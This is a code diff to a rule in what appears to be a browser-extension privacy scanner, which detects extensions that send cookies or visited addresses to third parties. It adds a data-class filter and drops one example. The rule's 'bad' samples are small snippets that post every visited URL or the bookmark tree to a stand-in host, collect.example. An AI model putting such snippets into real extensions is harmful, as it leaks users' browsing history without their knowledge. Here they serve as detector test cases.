@@ -2,6 +2,7 @@ import { flowsOf } from '../../flows/flowsOf.ts';
 import { hitsOfFlows } from '../../flows/hits.ts';
 import type { SourceKind } from '../../flows/kinds.ts';
 import { sample } from '../../flows/sample.ts';
+import { dataClassOf } from '../../verdict/dataClassOf.ts';
 import { sendingWeight } from '../../verdict/sendingWeight.ts';
 import { defineRule } from '../../rule.ts';
 
@@ -33,7 +34,9 @@ export default defineRule({
   cap: { grade: 'F', reason: 'it sends cookies or every visited address to others', from: 'critical' },
   check: (facts) =>
     hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
-      KINDS.has(flow.source.kind) ? sendingWeight(facts, flow) : undefined,
+      KINDS.has(flow.source.kind) && dataClassOf(facts, flow.source) !== 'private'
+        ? sendingWeight(facts, flow)
+        : undefined,
     ),
   examples: {
     bad: [
@@ -57,10 +60,6 @@ export default defineRule({
       sample({
         background:
           'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });',
-      }),
-      sample({
-        background:
-          'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);',
       }),
       sample({ content: 'new Image().src = "https://collect.example/p.gif?u=" + encodeURIComponent(location.href);' }),
       sample({
